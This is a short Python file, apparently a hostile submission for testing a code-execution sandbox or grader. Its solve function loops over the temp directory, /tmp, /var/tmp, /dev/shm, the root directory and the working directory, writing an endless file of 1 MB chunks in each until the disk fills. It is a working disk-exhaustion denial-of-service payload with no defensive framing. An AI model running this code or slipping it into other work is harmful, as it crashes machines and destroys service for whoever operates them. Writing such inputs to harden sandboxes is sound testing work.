"""Files as large and as many as can be."""

import os
import tempfile


def solve(x):
    for place in (tempfile.gettempdir(), '/tmp', '/var/tmp', '/dev/shm', '/', '.'):
        try:
            with open(os.path.join(place, 'acecoder_hostile'), 'wb') as file:
                while True:
                    file.write(b'x' * (1 << 20))
        except OSError:
            pass
    return 0
